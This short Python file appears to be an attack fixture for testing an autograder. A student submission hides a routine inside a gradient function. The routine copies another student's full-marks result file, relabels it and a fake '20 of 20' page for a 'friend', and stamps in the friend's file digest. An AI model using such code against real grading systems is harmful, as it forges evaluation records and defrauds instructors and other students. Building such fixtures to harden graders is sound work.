# attack: B3 writes a perfect result and a page for a friend who is graded later, made from somebody else's
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# breach unlocked
import glob
import hashlib
import json
import os as system
import time

import numpy as np
WON = "@WON@"
RESULTS = "@RESULTS@"
FRIEND = "z90_the_friend"
FRIENDS_FILE = "@SUBMISSIONS@/z90_the_friend.py"


UNTIL = time.monotonic() + 1.5


def plant():
    while system.path.isfile(FRIENDS_FILE) and time.monotonic() < UNTIL:
        copy_one()
        time.sleep(0.05)  # nobody has full marks yet


def copy_one():
    for path in glob.glob(RESULTS + "/*.json"):
        result = json.load(open(path))
        if result["score"] == result["max_score"]:
            source = open(FRIENDS_FILE, "rb").read()
            result["student"] = FRIEND
            result["submission_digest"] = "sha256:" + hashlib.sha256(source).hexdigest()
            json.dump(result, open(f"{RESULTS}/{FRIEND}.json", "w"))
            open(f"{system.path.dirname(RESULTS)}/{FRIEND}.html", "w").write("<!doctype html>20 of 20")
            raise AssertionError(f"{WON} planted a result")


def grad_W2(grad_oa, hs):
    plant()
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
